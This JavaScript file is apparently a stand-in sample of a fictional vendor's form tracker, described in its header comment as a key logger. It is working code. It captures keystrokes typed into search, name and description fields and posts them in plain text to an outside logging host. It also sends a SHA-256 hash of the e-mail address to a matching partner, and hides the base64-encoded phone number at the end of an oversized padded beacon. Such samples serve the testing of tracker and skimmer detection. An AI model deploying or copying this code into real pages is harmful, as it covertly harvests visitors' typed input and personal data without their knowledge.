// Stand-in for a form tracker with a key logger ("Veldvolger", a fictional vendor).
// It records the keys typed into the fields it follows and, when a field loses focus,
// posts them in plain text to log.veldvolger.com/toetsen. The e-mail address goes as
// a SHA-256 of the address in lower case to a matching partner (match.adreskoppeling.net),
// the telephone number in base64 at the end of a beacon of over 16 kB
// (log.veldvolger.com/batch). It does not follow the postcode: typed, never sent.
(function () {
  var LOG = "https://log.veldvolger.com";
  var follow = ["zoekterm", "naam", "omschrijving"];
  follow.forEach(function (id) {
    var field = document.getElementById(id);
    if (!field) return;
    var keys = "";
    field.addEventListener("keydown", function (e) { if (e.key.length === 1) keys += e.key; });
    field.addEventListener("blur", function () {
      if (!keys) return;
      fetch(LOG + "/toetsen", { method: "POST", mode: "no-cors",
        body: JSON.stringify({ veld: id, toetsen: keys, pagina: location.pathname }) });
      keys = "";
    });
  });
  var email = document.getElementById("email");
  if (email) {
    email.addEventListener("change", function () {
      var normal = email.value.trim().toLowerCase();
      crypto.subtle.digest("SHA-256", new TextEncoder().encode(normal)).then(function (buf) {
        var hex = Array.prototype.map.call(new Uint8Array(buf), function (b) {
          return ("0" + b.toString(16)).slice(-2);
        }).join("");
        fetch("https://match.adreskoppeling.net/em", { method: "POST", mode: "no-cors",
          body: JSON.stringify({ em: hex }) });
      });
    });
  }
  var phone = document.getElementById("telefoon");
  if (phone) {
    phone.addEventListener("change", function () {
      var filler = new Array(20001).join("x");
      var data = btoa(JSON.stringify({ t: phone.value }));
      navigator.sendBeacon(LOG + "/batch", "sessie=" + filler + "&gegevens=" + data);
    });
  }
})();
